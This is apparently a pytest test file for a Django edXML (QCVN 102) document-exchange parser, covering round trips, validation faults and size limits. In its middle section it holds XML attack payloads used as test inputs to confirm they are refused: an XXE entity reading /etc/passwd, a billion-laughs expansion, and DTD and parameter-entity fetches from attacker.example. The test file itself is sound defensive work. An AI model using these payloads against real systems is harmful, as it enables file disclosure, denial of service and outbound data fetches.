"""edXML packages and status messages: round trips and every kind of bad input, without a database."""

import base64
import dataclasses
from datetime import UTC, date, datetime

import pytest
from django.utils import translation

from cchc.edocs.edxml import (
    VIETNAM_TZ,
    Attachment,
    Business,
    BusinessDocType,
    DocumentType,
    EdxmlDocument,
    EdxmlError,
    Organization,
    Signer,
    StaffInfo,
    StatusCode,
    StatusMessage,
    Trace,
    build_package,
    build_status,
    default_document_id,
    parse_package,
    parse_status,
)

MINISTRY = Organization(
    "000.00.04.G18", "Bộ Nội vụ", address="8 Tôn Thất Thuyết, Hà Nội", email="vt@moha.gov.vn"
)
PROVINCE = Organization("000.00.01.H22", "UBND tỉnh Bắc Ninh", in_charge="Chính phủ")
DISTRICT = Organization("G09.20", "Sở Tư pháp")


def make_doc(**changes) -> EdxmlDocument:
    doc = EdxmlDocument(
        from_org=MINISTRY,
        to_orgs=[PROVINCE, DISTRICT],
        document_id=default_document_id(MINISTRY.code, date(2026, 12, 1), "125", "BNV-CCHC"),
        code_number="125",
        code_notation="BNV-CCHC",
        promulgation_place="Hà Nội",
        promulgation_date=date(2026, 12, 1),
        document_type=DocumentType(2, 18, "Công văn"),
        subject="V/v báo cáo kết quả cải cách hành chính năm 2026",
        content="Đề nghị các cơ quan gửi báo cáo trước ngày 15/12/2026.",
        signer=Signer("Nguyễn Văn An", "Thứ trưởng", "KT. BỘ TRƯỞNG"),
        priority=2,
        due_date=date(2026, 12, 15),
        to_places=["Như trên", "Lưu: VT, CCHC"],
        appendixes=["Phụ lục I: Mẫu báo cáo"],
        promulgation_amount=3,
        page_amount=2,
        business=Business(staff=StaffInfo("Vụ CCHC", "Trần Thị Bình", "0912345678", "binh@moha.gov.vn")),
        attachments=[
            Attachment("cong-van.pdf", "application/pdf", b"%PDF-1.7\n" + bytes(range(256)) * 4, "Công văn"),
            Attachment(
                "phu-luc.docx",
                "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                b"PK\x03\x04x",
            ),
        ],
        traces=[Trace(MINISTRY.code, datetime(2026, 12, 1, 9, 30, tzinfo=VIETNAM_TZ))],
    )
    return dataclasses.replace(doc, **changes)


def codes(excinfo) -> list[str]:
    return excinfo.value.codes


def test_round_trip_keeps_every_field():
    doc = make_doc()
    assert parse_package(build_package(doc), expected_recipient=PROVINCE.code) == doc


def test_build_adds_a_trace_of_the_sender_when_none_is_given():
    parsed = parse_package(build_package(make_doc(traces=())))
    assert [t.organ_id for t in parsed.traces] == [MINISTRY.code]
    assert abs(parsed.traces[0].timestamp - datetime.now(UTC)).total_seconds() < 5


def test_package_uses_the_qcvn_102_namespace_and_elements():
    xml = build_package(make_doc()).decode()
    assert 'xmlns:edXML="http://www.mic.gov.vn/TBT/QCVN_102_2016"' in xml
    for element in (
        "edXMLEnvelope",
        "MessageHeader",
        "TraceHeaderList",
        "Bussiness",
        "edXMLManifest",
        "AttachmentEncoded",
    ):
        assert f"<edXML:{element}" in xml
    assert '<ds:Signature Id="placeholder"/>' in xml
    assert "<edXML:PromulgationDate>2026/12/01</edXML:PromulgationDate>" in xml
    assert "<edXML:Timestamp>2026/12/01 09:30:00</edXML:Timestamp>" in xml
    assert 'xlink:href="cid:1"' in xml


@pytest.mark.parametrize("doc_type", list(BusinessDocType))
def test_every_business_document_type_round_trips(doc_type):
    reference = "" if doc_type is BusinessDocType.NEW else "000.00.04.G18,2026/11/20,100/BNV-CCHC"
    doc = make_doc(business=Business(doc_type, reason="Sai sót số liệu", referenced_document_id=reference))
    parsed = parse_package(build_package(doc))
    assert parsed.business.doc_type is doc_type
    assert parsed.business.referenced_document_id == reference


@pytest.mark.parametrize(
    "doc_type", [BusinessDocType.REVOKE, BusinessDocType.UPDATE, BusinessDocType.REPLACE]
)
def test_revoke_update_replace_need_the_referenced_document(doc_type):
    with pytest.raises(EdxmlError) as excinfo:
        build_package(make_doc(business=Business(doc_type)))
    assert codes(excinfo) == ["missing_reference"]
    assert excinfo.value.faults[0].field == "Bussiness/BussinessDocumentInfo/DocumentId"


def test_unknown_business_document_type_is_refused():
    xml = build_package(make_doc()).replace(b"<edXML:BussinessDocType>0<", b"<edXML:BussinessDocType>7<")
    with pytest.raises(EdxmlError) as excinfo:
        parse_package(xml)
    assert codes(excinfo) == ["unknown_business_type"]
    assert "7" in str(excinfo.value.faults[0].message)


def test_build_lists_every_fault_at_once():
    bad = make_doc(
        subject="", code_number="", priority=9, to_orgs=[PROVINCE, PROVINCE], signer=Signer("", "Thứ trưởng")
    )
    with pytest.raises(EdxmlError) as excinfo:
        build_package(bad)
    fields = {f.field: f.code for f in excinfo.value.faults}
    assert fields == {
        "To[2]/OrganId": "duplicate_recipient",
        "Code/CodeNumber": "missing",
        "Subject": "missing",
        "SignerInfo/FullName": "missing",
        "OtherInfo/Priority": "out_of_range",
    }


def test_limits_and_identifiers_are_checked():
    with pytest.raises(EdxmlError) as excinfo:
        build_package(make_doc(subject="x" * 501, from_org=Organization("bộ nội vụ", "Bộ Nội vụ")))
    assert {(f.field, f.code) for f in excinfo.value.faults} == {
        ("From/OrganId", "bad_organ_id"),
        ("Subject", "too_long"),
    }


def test_fault_messages_name_the_field_and_translate():
    with pytest.raises(EdxmlError) as excinfo:
        build_package(make_doc(subject=""))
    fault = excinfo.value.faults[0]
    with translation.override("en"):
        assert str(fault.message) == "Required element Subject is missing or empty."
    # The lazy message renders in whichever language is active when it is shown.
    assert "Subject" in str(fault)


def test_missing_required_elements_are_named():
    xml = build_package(make_doc())
    xml = xml.replace(b"<edXML:Subject>V/v b", b"<edXML:Other>V/v b").replace(
        b"</edXML:Subject>", b"</edXML:Other>"
    )
    start = xml.index(b"<edXML:Code>")
    end = xml.index(b"</edXML:Code>") + len(b"</edXML:Code>")
    xml = xml[:start] + xml[end:]
    with pytest.raises(EdxmlError) as excinfo:
        parse_package(xml)
    fields = {f.field for f in excinfo.value.faults if f.code == "missing"}
    assert {"Code", "Subject"} <= fields


def test_no_message_header_is_a_single_clear_fault():
    with pytest.raises(EdxmlError) as excinfo:
        parse_package(b'<edXML:edXML xmlns:edXML="http://www.mic.gov.vn/TBT/QCVN_102_2016"/>')
    assert [(f.code, f.field) for f in excinfo.value.faults] == [
        ("missing", "edXMLEnvelope"),
        ("missing", "edXMLHeader"),
        ("missing", "MessageHeader"),
    ]


def test_bad_dates_are_named():
    xml = build_package(make_doc()).replace(
        b"2026/12/01</edXML:PromulgationDate>", b"01/12/2026</edXML:PromulgationDate>"
    )
    xml = xml.replace(b"2026/12/01 09:30:00", b"2026/13/01 09:30:00")
    with pytest.raises(EdxmlError) as excinfo:
        parse_package(xml)
    assert {(f.code, f.field) for f in excinfo.value.faults} == {
        ("bad_date", "PromulgationInfo/PromulgationDate"),
        ("bad_date", "TraceHeaderList/TraceHeader[1]/Timestamp"),
    }


def test_malformed_xml():
    with pytest.raises(EdxmlError) as excinfo:
        parse_package(build_package(make_doc())[:-40])
    assert codes(excinfo) == ["malformed"]


def test_wrong_root_element():
    with pytest.raises(EdxmlError) as excinfo:
        parse_package(b"<html><body/></html>")
    assert codes(excinfo) == ["wrong_root"]


def test_wrong_recipient_is_refused():
    xml = build_package(make_doc())
    with pytest.raises(EdxmlError) as excinfo:
        parse_package(xml, expected_recipient="000.00.02.H01")
    assert codes(excinfo) == ["wrong_recipient"]
    assert parse_package(xml, expected_recipient=DISTRICT.code).to_orgs[1] == DISTRICT


XXE_FILE = b"""<?xml version="1.0"?>
<!DOCTYPE edXML [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<edXML:edXML xmlns:edXML="http://www.mic.gov.vn/TBT/QCVN_102_2016"><edXML:Subject>&secret;</edXML:Subject></edXML:edXML>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
<!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]>
<edXML:edXML xmlns:edXML="http://www.mic.gov.vn/TBT/QCVN_102_2016">&lol9;</edXML:edXML>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE edXML SYSTEM "http://attacker.example/evil.dtd">
<edXML:edXML xmlns:edXML="http://www.mic.gov.vn/TBT/QCVN_102_2016"/>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE edXML [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<edXML:edXML xmlns:edXML="http://www.mic.gov.vn/TBT/QCVN_102_2016"/>"""


@pytest.mark.parametrize(
    "payload",
    [XXE_FILE, BILLION_LAUGHS, EXTERNAL_DTD, PARAMETER_ENTITY],
    ids=["xxe", "laughs", "dtd", "param"],
)
def test_dtds_and_entities_are_refused(payload):
    with pytest.raises(EdxmlError) as excinfo:
        parse_package(payload)
    assert codes(excinfo) == ["forbidden_dtd"]
    with pytest.raises(EdxmlError):
        parse_status(payload)


def test_oversized_package_is_refused_before_parsing():
    xml = build_package(make_doc())
    with pytest.raises(EdxmlError) as excinfo:
        parse_package(xml, max_bytes=len(xml) - 1)
    assert codes(excinfo) == ["too_large"]
    assert parse_package(xml, max_bytes=len(xml))


def test_oversized_attachment_is_refused():
    xml = build_package(make_doc())
    with pytest.raises(EdxmlError) as excinfo:
        parse_package(xml, max_attachment_bytes=1000)
    assert codes(excinfo) == ["attachment_too_large"]
    assert excinfo.value.faults[0].field == "Attachment[1]"
    assert parse_package(xml, max_attachment_bytes=1033).attachments[0].data.startswith(b"%PDF")


def test_bad_base64_is_named():
    doc = make_doc()
    good = base64.b64encode(doc.attachments[1].data)
    xml = build_package(doc).replace(good, b"not*base64!")
    with pytest.raises(EdxmlError) as excinfo:
        parse_package(xml)
    assert [(f.code, f.field) for f in excinfo.value.faults] == [
        ("bad_base64", "Attachment[2]/ContentTransferEncoded")
    ]


def test_attachment_count_mismatch():
    xml = build_package(make_doc())
    start = xml.rindex(b"<edXML:Attachment>")
    end = xml.rindex(b"</edXML:Attachment>") + len(b"</edXML:Attachment>")
    with pytest.raises(EdxmlError) as excinfo:
        parse_package(xml[:start] + xml[end:])
    assert codes(excinfo) == ["attachment_mismatch"]


def test_attachment_size_mismatch():
    xml = build_package(make_doc()).replace(b"<edXML:Size>5</edXML:Size>", b"<edXML:Size>6</edXML:Size>")
    with pytest.raises(EdxmlError) as excinfo:
        parse_package(xml)
    assert [(f.code, f.field) for f in excinfo.value.faults] == [("size_mismatch", "Attachment[2]/Size")]


def test_attachment_without_a_manifest_entry():
    xml = build_package(make_doc())
    at = xml.rindex(b"<edXML:ContentId>2</edXML:ContentId>")  # the attachment's, not the manifest's
    xml = xml[:at] + xml[at:].replace(b">2<", b">9<", 1)
    with pytest.raises(EdxmlError) as excinfo:
        parse_package(xml)
    assert codes(excinfo) == ["attachment_mismatch"]


def test_package_without_attachments():
    doc = make_doc(attachments=[])
    assert parse_package(build_package(doc)) == doc


# --- status messages ---------------------------------------------------------------------------------


@pytest.mark.parametrize("status", list(StatusCode))
def test_every_status_code_round_trips(status):
    msg = StatusMessage(
        from_org=PROVINCE,
        to_org=Organization(MINISTRY.code, MINISTRY.name),
        document_id=make_doc().document_id,
        status=status,
        timestamp=datetime(2026, 12, 1, 14, 5, 9, tzinfo=VIETNAM_TZ),
        description=f"Trạng thái {status.value}",
        staff=StaffInfo("Văn thư", "Lê Văn Cường", "0987654321", "vt@bacninh.gov.vn"),
        code="125/BNV-CCHC",
        promulgation_date=date(2026, 12, 1),
    )
    xml = build_status(msg)
    assert f"<edXML:StatusCode>{status.value}</edXML:StatusCode>".encode() in xml
    assert parse_status(xml) == msg


def test_status_codes_are_the_reference_list():
    assert [s.value for s in StatusCode] == ["01", "02", "03", "04", "05", "06", "13", "15", "16"]
    with translation.override("en"):
        assert str(StatusCode.ACCEPTED.label) == "accepted"


def test_status_timestamp_in_utc_is_written_in_vietnamese_time():
    msg = StatusMessage(
        PROVINCE, MINISTRY, "id-1", StatusCode.ARRIVED, datetime(2026, 12, 1, 2, 0, tzinfo=UTC)
    )
    assert b"<edXML:Timestamp>2026/12/01 09:00:00</edXML:Timestamp>" in build_status(msg)


def test_unknown_status_code_and_missing_fields():
    msg = StatusMessage(
        PROVINCE, MINISTRY, "id-1", StatusCode.ARRIVED, datetime(2026, 12, 1, 9, 0, tzinfo=VIETNAM_TZ)
    )
    xml = build_status(msg).replace(b">01<", b">99<").replace(b">id-1<", b"><")
    with pytest.raises(EdxmlError) as excinfo:
        parse_status(xml)
    assert {(f.code, f.field) for f in excinfo.value.faults} == {
        ("unknown_status", "StatusCode"),
        ("missing", "ResponseFor/DocumentId"),
    }


def test_status_with_a_bad_timestamp():
    msg = StatusMessage(
        PROVINCE, MINISTRY, "id-1", StatusCode.ARRIVED, datetime(2026, 12, 1, 9, 0, tzinfo=VIETNAM_TZ)
    )
    xml = build_status(msg).replace(b"2026/12/01 09:00:00", b"yesterday")
    with pytest.raises(EdxmlError) as excinfo:
        parse_status(xml)
    assert codes(excinfo) == ["bad_date"]


def test_fault_messages_are_vietnamese(settings):
    # The edocs app may not be installed on this branch yet: install it so its catalogue loads.
    from django.apps import apps

    if not apps.is_installed("cchc.edocs"):
        settings.INSTALLED_APPS = [*settings.INSTALLED_APPS, "cchc.edocs"]
    with pytest.raises(EdxmlError) as excinfo:
        parse_package(build_package(make_doc()), expected_recipient="000.00.02.H01")
    with translation.override("vi"):
        assert str(excinfo.value.faults[0].message) == (
            "Gói tin không gửi đến cơ quan này (000.00.02.H01); nơi nhận: 000.00.01.H22, G09.20."
        )
        assert str(StatusCode.REFUSED.label) == "từ chối tiếp nhận"
        assert str(BusinessDocType.REPLACE.label) == "thay thế"
